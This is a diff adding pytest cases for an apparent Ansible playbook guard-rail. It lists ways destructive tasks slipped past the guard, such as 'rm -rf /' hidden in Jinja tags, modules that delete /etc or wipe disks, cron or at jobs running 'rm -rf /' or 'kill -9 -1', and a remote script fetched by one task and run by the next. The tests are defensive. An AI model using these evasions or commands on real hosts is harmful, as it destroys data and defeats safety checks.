@@ -129,3 +129,82 @@ async def test_a_playbook_is_checked_again_at_run_with_its_extra_vars(
     body = assert_envelope(response, 422)
     assert body["message"] == "command validation failed"
     assert body["error"].startswith("dangerous command blocked: rm -rf /")
+
+
+# What got through before: Jinja statements and comments hid the command from the guard-rail,
+# a Jinja value standing for the whole command was any command, modules that delete, overwrite
+# or format without a shell (file, copy, filesystem, parted, lvol, lvg, zfs) and modules that
+# schedule a command (cron, at) were never checked, and a script fetched by one task and run by
+# the next was two harmless tasks.
+_BYPASSES = {
+    "jinja if": 'shell: "{% if true %}rm -rf /{% endif %}"',
+    "jinja raw": 'shell: "{% raw %}rm -rf /{% endraw %}"',
+    "jinja comment": 'shell: "echo {# x #}; rm -rf /etc"',
+    "jinja whitespace control": 'shell: "r{%- if 1 -%}m{%- endif %} -rf /"',
+    "whole command from a loop": "shell: \"{{ item }}\"\n      loop: ['rm -rf /']",
+    "command after ; from jinja": 'shell: "uptime; {{ cmd }}"',
+    "file absent": "ansible.builtin.file:\n        path: /etc\n        state: absent",
+    "file absent free form": "file: path=/var/lib/etcd state=absent",
+    "copy empty content": "copy:\n        dest: /etc/passwd\n        content: ''",
+    "filesystem": "community.general.filesystem:\n        dev: /dev/sda\n        fstype: ext4",
+    "filesystem absent": "community.general.filesystem:\n        dev: /dev/sdb\n        state: absent",
+    "parted": "community.general.parted:\n        device: /dev/sdb\n        number: 1\n        state: absent",
+    "lvol absent": "community.general.lvol:\n        vg: vg0\n        lv: data\n        state: absent",
+    "lvg absent": "community.general.lvg:\n        vg: vg0\n        state: absent",
+    "zfs absent": "community.general.zfs:\n        name: tank/data\n        state: absent",
+    "cron job": "ansible.builtin.cron:\n        name: x\n        job: rm -rf /",
+    "file absent from a loop": 'file:\n        path: "{{ item }}"\n        state: absent\n'
+    "      loop: [/etc]",
+    "file absent free form with jinja": "file: path={{ d }} state=absent",
+    "at command": "ansible.posix.at:\n        command: kill -9 -1\n        count: 1\n        units: minutes",
+}
+
+
+@pytest.mark.parametrize("task", list(_BYPASSES.values()), ids=list(_BYPASSES))
+def test_what_a_task_does_without_a_shell_is_checked(task: str) -> None:
+    from knm.core.policy import check_command
+    from knm.plugins.ansible.shell_tasks import play_scripts
+
+    content = f"- hosts: all\n  tasks:\n    - {task}\n"
+    commands = [t.command for t in shell_tasks(content)] + play_scripts(content)
+    assert any(check_command(c) for c in commands), commands
+
+
+def test_a_script_fetched_by_one_task_and_run_by_the_next_is_refused() -> None:
+    from knm.core.policy import check_command
+    from knm.plugins.ansible.shell_tasks import play_scripts
+
+    content = (
+        "- hosts: all\n  tasks:\n"
+        "    - get_url: url=https://x.example/i.sh dest=/tmp/i.sh\n"
+        "    - shell: sh /tmp/i.sh\n"
+    )
+    assert not any(check_command(t.command) for t in shell_tasks(content))
+    assert any(check_command(s) for s in play_scripts(content))
+
+
+@pytest.mark.parametrize(
+    "task",
+    [
+        "file:\n        path: /tmp/knm-scratch\n        state: absent",
+        "ansible.builtin.file:\n        path: /etc/kubernetes/manifests\n        state: directory",
+        "copy:\n        src: files/kubelet.yaml\n        dest: /var/lib/kubelet/config.yaml",
+        "copy:\n        dest: /etc/hostname\n        content: node1",
+        "template:\n        src: sudoers.j2\n        dest: /etc/sudoers\n"
+        "        validate: visudo -cf %s",
+        "community.general.filesystem:\n        dev: /tmp/disk.img\n        fstype: ext4",
+        "community.general.parted:\n        device: /dev/sdb\n        state: info",
+        "community.general.lvol:\n        vg: vg0\n        lv: data\n        size: +5G",
+        "ansible.builtin.cron:\n        name: backup\n        job: /usr/local/bin/etcd-backup.sh",
+        'shell: "kubectl drain {{ inventory_hostname }} --ignore-daemonsets"',
+        "shell: \"{% if ansible_os_family == 'Debian' %}apt-get update{% endif %}\"",
+        "get_url: url=https://dl.k8s.io/kubectl dest=/usr/local/bin/kubectl mode=0755",
+    ],
+)
+def test_everyday_tasks_without_a_shell_pass(task: str) -> None:
+    from knm.core.policy import check_command
+    from knm.plugins.ansible.shell_tasks import play_scripts
+
+    content = f"- hosts: all\n  tasks:\n    - {task}\n"
+    commands = [t.command for t in shell_tasks(content)] + play_scripts(content)
+    assert not [(c, check_command(c)) for c in commands if check_command(c)]
